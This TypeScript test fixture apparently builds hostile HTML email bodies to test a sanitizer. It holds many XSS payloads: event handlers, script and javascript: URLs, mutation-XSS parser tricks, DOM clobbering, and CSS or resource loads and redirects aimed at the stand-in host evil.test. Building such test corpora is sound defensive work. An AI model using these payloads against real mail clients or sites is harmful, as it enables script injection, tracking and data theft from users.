// Hostile HTML of mail, written by us: families times variants. What runs calls `alert`, what loads or leads away asks https://evil.test/.
// Each vector is a whole body; which of them a browser of today still obeys differs, and must not matter.

export interface Hostile {
  family: string
  html: string
}

const ALERT = 'alert(1)'
const EVIL = 'https://evil.test'

const handlers = (): string[] => [
  `<img src=x onerror=${ALERT}>`,
  `<img src=x onerror="${ALERT}" onload='${ALERT}'>`,
  `<IMG SRC=x OnErRoR=${ALERT}>`,
  `<img/src=x/onerror=${ALERT}>`,
  `<img src=x\fonerror=${ALERT}>`,
  `<img src=x\x0bonerror=${ALERT}>`,
  `<img """><img src=x onerror="${ALERT}">`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">`,
  `<svg onload=${ALERT}>`,
  `<svg/onload=${ALERT}>`,
  `<body onload=${ALERT}>`,
  `<body onpageshow=${ALERT}>`,
  `<div onclick=${ALERT}>click</div>`,
  `<div onmouseover=${ALERT} onpointerenter=${ALERT}>over</div>`,
  `<p onfocus=${ALERT} tabindex=1 autofocus>x</p>`,
  `<input onfocus=${ALERT} autofocus>`,
  `<select onfocus=${ALERT} autofocus><option>x</select>`,
  `<textarea onfocus=${ALERT} autofocus></textarea>`,
  `<details open ontoggle=${ALERT}><summary>x</summary></details>`,
  `<video onloadstart=${ALERT} src=x></video>`,
  `<video><source onerror=${ALERT}></video>`,
  `<audio src=x onerror=${ALERT}></audio>`,
  `<marquee onstart=${ALERT}>x</marquee>`,
  `<object data=x onerror=${ALERT}></object>`,
  `<embed src=x onload=${ALERT}>`,
  `<iframe onload=${ALERT}></iframe>`,
  `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${ALERT}>x</b>`,
  `<b style="transition:color 1s" ontransitionend=${ALERT}>x</b>`,
  `<button popovertarget=p>x</button><div id=p popover onbeforetoggle=${ALERT}>y</div>`,
  `<input type=image src=x onerror=${ALERT}>`,
  `<dialog open onclose=${ALERT}><form method=dialog><button>x</button></form></dialog>`,
  `<table background=x onload=${ALERT}><tr><td onclick=${ALERT}>x</table>`,
  `<isindex onfocus=${ALERT} autofocus>`,
  `<bdo dir=rtl onwheel=${ALERT}>x</bdo>`,
  `<xss onclick=${ALERT} style=display:block contenteditable>x</xss>`,
  `<keygen autofocus onfocus=${ALERT}>`,
  `<math onclick=${ALERT}><mi>x</mi></math>`,
]

const scripts = (): string[] => [
  `<script>${ALERT}</script>`,
  `<SCRIPT>${ALERT}</SCRIPT >`,
  `<script/x>${ALERT}</script>`,
  `<script src=${EVIL}/a.js></script>`,
  `<script src="//evil.test/a.js"></script>`,
  `<script type=module>${ALERT}</script>`,
  `<script src="data:text/javascript,${ALERT}"></script>`,
  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  `<<script>${ALERT}//<</script>`,
  `<script\n>${ALERT}</script\n>`,
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><script href="data:text/javascript,${ALERT}"/></svg>`,
  `<svg><script xlink:href=${EVIL}/a.js></script></svg>`,
  `<noscript><p title="</noscript><script>${ALERT}</script>">`,
  `<!--><script>${ALERT}</script>-->`,
  `<!--[if gte IE 4]><script>${ALERT}</script><![endif]-->`,
  `<![CDATA[<script>${ALERT}</script>]]>`,
  `<?xml version="1.0"?><script>${ALERT}</script>`,
  `<template><script>${ALERT}</script></template><template shadowrootmode=open><script>${ALERT}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${ALERT}></template></div>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<link rel=modulepreload href=${EVIL}/a.js>`,
]

const scriptUrls = [
  `javascript:${ALERT}`,
  `JaVaScRiPt:${ALERT}`,
  ` javascript:${ALERT}`,
  `java\tscript:${ALERT}`,
  `java\nscript:${ALERT}`,
  `&#106;avascript:${ALERT}`,
  `javascript&colon;${ALERT}`,
  `java&Tab;script:${ALERT}`,
  `\x01javascript:${ALERT}`,
  `data:text/html,<script>${ALERT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `javascript://x%0a${ALERT}`,
]
const urlHolders: ((url: string) => string)[] = [
  (url) => `<a href="${url}">go</a>`,
  (url) => `<a href="${url}" target=_self>go</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>go</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>go</text></a></svg>`,
]
const more: ((url: string) => string)[] = [
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<math><maction actiontype=statusline xlink:href="${url}">go</maction></math>`,
  (url) => `<form><button formaction="${url}">go</button></form>`,
  (url) => `<form><input type=submit formaction="${url}"></form>`,
  (url) => `<map name=m><area shape=default href="${url}"></map><img usemap=#m src=x>`,
  (url) => `<svg><animate xlink:href=#l attributeName=href values="${url}" /><a id=l><text y=20>go</text></a></svg>`,
  (url) => `<svg><a><set attributeName=href to="${url}"/><text y=20>go</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<base href="${url}"><a href="x">go</a>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
]

const frames = (): string[] => [
  `<iframe srcdoc="<script>parent.${ALERT};${ALERT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${ALERT}&gt;"></iframe>`,
  `<iframe src=${EVIL}/frame></iframe>`,
  `<frameset><frame src=${EVIL}/frame></frameset>`,
  `<object data=${EVIL}/o type=text/html></object>`,
  `<embed src=${EVIL}/e type=text/html>`,
  `<fencedframe src=${EVIL}/f></fencedframe>`,
  `<portal src=${EVIL}/p></portal>`,
]

const away = (): string[] => [
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=${EVIL}/refresh">`,
  `<meta http-equiv=refresh content="0,${EVIL}/refresh">`,
  ...['_self', '_top', '_parent', '_blank', 'x'].map((target) => `<a href=${EVIL}/click target=${target}>go</a>`),
  `<a href=${EVIL}/click>go</a>`,
  `<a href=//evil.test/click>go</a>`,
  `<a href=\\\\evil.test\\click target=_self>go</a>`,
  `<a href="https:evil.test/click" target=_self>go</a>`,
  `<a href=${EVIL}/click ping=${EVIL}/ping target=_self>go</a>`,
  `<base target=_top><a href=${EVIL}/click>go</a>`,
  `<base target=_self><a href=${EVIL}/click>go</a>`,
  `<base href=${EVIL}/><a href=x target=_self>go</a><img src=y>`,
  `<a href=/settings target=_top>go</a>`,
  `<form action=${EVIL}/form target=_top><input name=q value=1><button>go</button></form>`,
  `<form action=${EVIL}/form><input type=image src=x></form>`,
  `<button form=f>go</button><form id=f action=${EVIL}/form target=_self></form>`,
  `<svg><a href=${EVIL}/click target=_top><text y=20>go</text></a></svg>`,
  `<math href=${EVIL}/click><mi>go</mi></math>`,
  `<map name=m><area shape=default href=${EVIL}/click target=_top></map><img usemap=#m src=x width=9 height=9>`,
]

const loads = (): string[] => [
  `<img src=${EVIL}/i>`,
  `<img src=//evil.test/i>`,
  `<img srcset="${EVIL}/i 1x, ${EVIL}/j 2x">`,
  `<img lowsrc=${EVIL}/i dynsrc=${EVIL}/j>`,
  `<picture><source srcset=${EVIL}/i><img></picture>`,
  `<image src=${EVIL}/i>`,
  `<input type=image src=${EVIL}/i>`,
  `<video poster=${EVIL}/i src=${EVIL}/v autoplay preload=auto></video>`,
  `<video><source src=${EVIL}/v><track default src=${EVIL}/t></video>`,
  `<audio src=${EVIL}/a preload=auto autoplay></audio>`,
  `<body background=${EVIL}/i>`,
  `<table background=${EVIL}/i><tr><td background=${EVIL}/j>x</table>`,
  `<svg><image href=${EVIL}/i width=9 height=9 /></svg>`,
  `<svg><image xlink:href=${EVIL}/i width=9 height=9 /></svg>`,
  `<svg width=9 height=9><filter id=f><feImage href=${EVIL}/i /></filter><rect width=9 height=9 filter=url(#f) /></svg>`,
  `<svg><use href=${EVIL}/i#x /></svg>`,
  `<svg><style>@import url(${EVIL}/c);</style></svg>`,
  `<math><mglyph src=${EVIL}/i></mglyph></math>`,
  ...[
    'stylesheet',
    'icon',
    'preload as=image',
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'prerender',
    'manifest',
    'import',
    'apple-touch-icon',
  ].map((rel) => `<link rel=${rel} href=${EVIL}/l>`),
  `<object data=${EVIL}/o></object>`,
  `<embed src=${EVIL}/e>`,
  `<bgsound src=${EVIL}/s>`,
  `<p style="x:url(${EVIL}/i)" data-x="${EVIL}/d">x</p>`,
  `<form><button formaction=${EVIL}/f>x</button></form><img src=${EVIL}/unclosed`,
  `<img src='${EVIL}/dangling?`,
]

const css = [
  `background:url(${EVIL}/c)`,
  `background:url("${EVIL}/c")`,
  `background:url( ${EVIL}/c`,
  `background:u\\72 l(${EVIL}/c)`,
  `background:\\75rl(${EVIL}/c)`,
  `background:url/**/(${EVIL}/c)`,
  `background-image:image-set("${EVIL}/c" 1x)`,
  `background-image:-webkit-image-set(url(${EVIL}/c) 1x)`,
  `background-image:cross-fade(url(${EVIL}/c), url(${EVIL}/d), 50%)`,
  `--x:url(${EVIL}/c);background:var(--x)`,
  `list-style:url(${EVIL}/c);display:list-item`,
  `list-style-image:url(${EVIL}/c);display:list-item`,
  `border-image:url(${EVIL}/c) 30`,
  `cursor:url(${EVIL}/c),auto`,
  `content:url(${EVIL}/c)`,
  `mask-image:url(${EVIL}/c)`,
  `filter:url(${EVIL}/c#f)`,
  `clip-path:url(${EVIL}/c#f)`,
  `shape-outside:url(${EVIL}/c);float:left`,
  `behavior:url(${EVIL}/c)`,
  `width:expression(${ALERT})`,
  `-moz-binding:url(${EVIL}/c#x)`,
]
const sheets = [
  `@import url(${EVIL}/s);`,
  `@import "${EVIL}/s";`,
  `@import'//evil.test/s';`,
  `@font-face{font-family:x;src:url(${EVIL}/f)} body{font-family:x}`,
  `body::before{content:url(${EVIL}/s)}`,
  `@namespace url(${EVIL}/n);`,
  `input[value^=a]{background:url(${EVIL}/leak)}`,
  `</style><img src=x onerror=${ALERT}>`,
  `<!--</style><img src=x onerror=${ALERT}>-->`,
]

/** What parsers read one way first and another way the second time. */
const mutations = (): string[] => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ALERT}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${ALERT}>">`,
  `<noscript><style></noscript><img src=x onerror=${ALERT}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ALERT}>`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${ALERT}>--></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${ALERT}></annotation-xml></math>`,
  `<svg><title><style></title><img src=x onerror=${ALERT}></style></svg>`,
  `<textarea><title></textarea><img src=x onerror=${ALERT}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${ALERT}>">`,
  `<title></title/><img src=x onerror=${ALERT}></title>`,
  `<select><style></select><img src=x onerror=${ALERT}></style></select>`,
  `<table><td><svg><desc><td><img src=x onerror=${ALERT}></table>`,
  `<plaintext><img src=x onerror=${ALERT}>`,
  `<p title="<script>${ALERT}</script>">x</p>`,
  `<a href="https://x.test/&quot; onclick=&quot;${ALERT}">go</a>`,
  `<img alt="\`><img src=x onerror=${ALERT}>\`" src=x>`,
  `<option><style></option></select><img src=x onerror=${ALERT}></style>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${ALERT}>`,
  `<!doctype html [<!ENTITY x "<script>${ALERT}</script>">]>&x;`,
  `<svg><desc><![CDATA[</desc><script>${ALERT}</script>]]></svg>`,
]

/** What takes names that scripts of a page look up. */
const names = (): string[] => [
  `<form id=x name=document><input name=body><input name=cookie></form>`,
  `<img name=getElementById id=createElement src=x>`,
  `<a id=__proto__ href=x name=constructor>go</a>`,
  `<form><input name=attributes><input name=parentNode onfocus=${ALERT} autofocus></form>`,
  `<form id=f><input name=nodeName><img src=x onerror=${ALERT}></form>`,
]

export function hostileHtml(): Hostile[] {
  const family = (name: string, list: string[]): Hostile[] => list.map((html) => ({ family: name, html }))
  return [
    ...family('handlers', handlers()),
    ...family('scripts', scripts()),
    ...family('script addresses', [
      ...scriptUrls.flatMap((url) => urlHolders.map((holder) => holder(url))),
      ...more.flatMap((holder) => [`javascript:${ALERT}`, `${EVIL}/x`].map((url) => holder(url))),
    ]),
    ...family('frames', frames()),
    ...family('leading away', away()),
    ...family('loading', loads()),
    ...family(
      'styles',
      css.map((one) => `<p style="${one.replaceAll('"', '&quot;')}">x</p>`),
    ),
    ...family(
      'style sheets',
      [...sheets, ...css.slice(0, 10).map((one) => `p{${one}}`)].map((one) => `<style>${one}</style><p>x</p>`),
    ),
    ...family('mutations', mutations()),
    ...family('names', names()),
  ]
}
